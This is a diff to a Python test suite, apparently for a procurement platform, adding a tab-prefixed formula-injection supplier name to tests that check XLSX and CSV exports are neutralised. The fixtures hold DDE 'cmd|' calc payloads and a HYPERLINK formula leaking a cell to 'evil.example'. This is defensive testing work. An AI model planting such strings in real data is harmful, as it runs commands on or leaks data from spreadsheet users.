@@ -43,6 +43,7 @@ SUPPLIER = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 SUBCONTRACTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
 TAB_SUPPLIER = "\t=1+2+cmd|' /C calc'!A0 Tab Ltd"
 CR_SUBCONTRACTOR = "\r=3+4+cmd|' /C calc'!A0 Return Ltd"
+TAB_SUBCONTRACTOR = "\t@SUM(5+6)*cmd|' /C calc'!A0 Tabbed Ltd"
 SPACE_BUYER = " =5+6+cmd|' /C calc'!A0 Council"
 # Every other free-text field that reaches an export, each with its own formula (actions strip
 # leading whitespace from these, so each starts with a formula character itself).
@@ -165,6 +166,7 @@ def awarded(client):
     loser, loser_user = testing.supplier_with_user(LOSER)
     tab, tab_user = testing.supplier_with_user(TAB_SUPPLIER)
     relied, _ = testing.supplier_with_user(CR_SUBCONTRACTOR, size=Size.MICRO)
+    tabbed, _ = testing.supplier_with_user(TAB_SUBCONTRACTOR)
     bid = bid_actions.start_bid(lot=lot, supplier=winner, by=winner_user)
     answers = {q.pk: "Our answer." for q in lot.questions.all()}
     bid_actions.save_bid(bid=bid, by=winner_user, price=Decimal("90000"), answers=answers)
@@ -185,6 +187,15 @@ def awarded(client):
         share_percent=Decimal("2"),
         description="Transport.",
         relied_on=True,
+    )
+    supplier_actions.add_subcontractor(
+        bid=bid,
+        by=winner_user,
+        organisation=supplier_selectors.find_supplier(tabbed.supplier_profile.platform_identifier),
+        name="",
+        size="",
+        share_percent=Decimal("1"),
+        description="Laundry.",
     )
     bid_actions.submit_bid(bid=bid, by=winner_user)
     others = [
@@ -230,7 +241,7 @@ def test_hostile_names_in_an_award_open_as_text_in_the_xlsx_download(awarded, cl
     cells = xlsx_cells(b"".join(response.streaming_content))
 
     values = assert_xlsx_safe("compiled-releases.xlsx", cells)
-    for name in (SUPPLIER, SUBCONTRACTOR, CR_SUBCONTRACTOR, SPACE_BUYER):
+    for name in (SUPPLIER, SUBCONTRACTOR, TAB_SUBCONTRACTOR, CR_SUBCONTRACTOR, SPACE_BUYER):
         assert "'" + name in values, name  # readable, after the quote
 
 
@@ -239,7 +250,7 @@ def test_hostile_names_in_an_award_open_as_text_in_the_csv_download(awarded, cli
     cells = zip_csv_cells(b"".join(response.streaming_content))
 
     assert_no_formula("compiled-releases-csv.zip", cells)
-    for name in (SUPPLIER, SUBCONTRACTOR, CR_SUBCONTRACTOR, SPACE_BUYER):
+    for name in (SUPPLIER, SUBCONTRACTOR, TAB_SUBCONTRACTOR, CR_SUBCONTRACTOR, SPACE_BUYER):
         assert "'" + name in cells, name
 
 
@@ -256,7 +267,7 @@ def test_the_json_downloads_keep_the_true_names(awarded):
     assert compiled == list(Record.objects.order_by("ocid").values_list("compiled", flat=True))
     [release] = compiled
     names = {party["name"] for party in release["parties"]}
-    assert {SUPPLIER, SUBCONTRACTOR, CR_SUBCONTRACTOR, SPACE_BUYER} <= names
+    assert {SUPPLIER, SUBCONTRACTOR, TAB_SUBCONTRACTOR, CR_SUBCONTRACTOR, SPACE_BUYER} <= names
     assert release["tender"]["title"] == FIELDS["tender title"]
     with gzip.open(io.BytesIO(published(downloads.RELEASES_JSONL.name))) as lines:
         assert SUPPLIER in {
